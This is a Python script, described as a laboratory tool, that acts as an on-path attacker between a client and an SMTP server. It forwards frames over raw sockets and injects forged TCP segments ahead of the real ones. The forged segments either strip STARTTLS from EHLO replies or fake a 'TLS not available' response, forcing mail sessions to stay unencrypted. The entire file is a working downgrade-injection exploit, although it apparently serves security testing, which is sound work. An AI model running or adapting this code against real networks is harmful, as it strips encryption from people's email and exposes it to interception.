#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""An attacker on the path who adds packets of his own, for the laboratory.

Forwards frames between two interfaces as a router would (the kernel's forwarding is
off meanwhile), and sends the client a forged version of a server's segment just before
the true one: same sequence number, same length, other bytes. The client's TCP keeps
the forged bytes and takes the true ones for a retransmission.

	injector.py --inject ehlo|starttls pc CLIENT-MAC ps SERVER-MAC
"""

import argparse
import selectors
import socket
import struct
import sys

ETH_P_ALL = 3


def checksum(data):
	if len(data) % 2:
		data += b"\0"
	total = sum(struct.unpack(f"!{len(data) // 2}H", data))
	while total >> 16:
		total = (total & 0xffff) + (total >> 16)
	return ~total & 0xffff


def forged_payload(kind, payload):
	"""The same length, or None where there is nothing to forge."""
	if kind == "ehlo" and payload.startswith(b"250") and b"STARTTLS\r\n" in payload:
		return payload.replace(b"STARTTLS\r\n", b"XSTREAM1\r\n")
	if kind == "starttls" and payload.startswith(b"220") and b"TLS" in payload:
		text = b"454 TLS not available".ljust(len(payload) - 2, b".")[:len(payload) - 2]
		return text + b"\r\n"
	return None


def with_payload(frame, payload):
	"""The IPv4 frame with another TCP payload of the same length, checksum corrected."""
	ip_header = (frame[14] & 15) * 4
	tcp_at = 14 + ip_header
	data_at = tcp_at + (frame[tcp_at + 12] >> 4) * 4
	out = bytearray(frame[:data_at] + payload)
	struct.pack_into("!H", out, tcp_at + 16, 0)
	pseudo = bytes(out[26:34]) + struct.pack("!BBH", 0, 6, len(out) - tcp_at)
	struct.pack_into("!H", out, tcp_at + 16, checksum(pseudo + bytes(out[tcp_at:])))
	return bytes(out)


def main():
	parser = argparse.ArgumentParser(description=__doc__.split("\n", maxsplit=1)[0])
	parser.add_argument("--inject", choices=("ehlo", "starttls"), required=True)
	parser.add_argument("client_if")
	parser.add_argument("client_mac")
	parser.add_argument("server_if")
	parser.add_argument("server_mac")
	options = parser.parse_args()
	selector = selectors.DefaultSelector()
	sides = []
	for interface, mac in ((options.client_if, options.client_mac), (options.server_if, options.server_mac)):
		sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
		sock.bind((interface, ETH_P_ALL))
		own = sock.getsockname()[4]
		sides.append((sock, own, bytes.fromhex(mac.replace(":", ""))))
		selector.register(sock, selectors.EVENT_READ, len(sides) - 1)
	print("injector: ready", flush=True)
	while True:
		for key, _ in selector.select():
			frame, origin = key.fileobj.recvfrom(65536)
			if origin[2] == socket.PACKET_OUTGOING or frame[12:14] != b"\x08\x00":
				continue
			own = sides[key.data][1]
			out, out_mac, far = sides[1 - key.data]
			if frame[:6] != own or frame[23] != 6:
				continue
			forward = far + out_mac + frame[12:]
			tcp_at = 14 + (frame[14] & 15) * 4
			data_at = tcp_at + (frame[tcp_at + 12] >> 4) * 4
			payload = frame[data_at:14 + struct.unpack_from("!H", frame, 16)[0]]
			if key.data == 1 and payload:
				forged = forged_payload(options.inject, payload)
				if forged:
					out.send(with_payload(forward[:data_at + len(payload)], forged))
			out.send(forward)


if __name__ == "__main__":
	sys.exit(main())
